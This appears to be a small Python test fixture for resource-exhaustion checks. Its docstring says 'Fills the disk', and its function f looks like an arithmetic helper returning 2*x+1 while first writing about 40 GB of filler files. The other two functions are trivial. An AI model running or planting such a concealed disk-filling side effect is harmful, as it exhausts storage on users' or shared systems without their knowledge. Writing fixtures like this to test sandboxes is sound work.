"""Fills the disk."""


def f(x):
    for number in range(10_000):
        with open(f"filler-{number}", "wb") as file:
            file.write(bytes(4 << 20))
    return 2 * x + 1


def g(x):
    return float(x.sum())


def h(n):
    return n * n
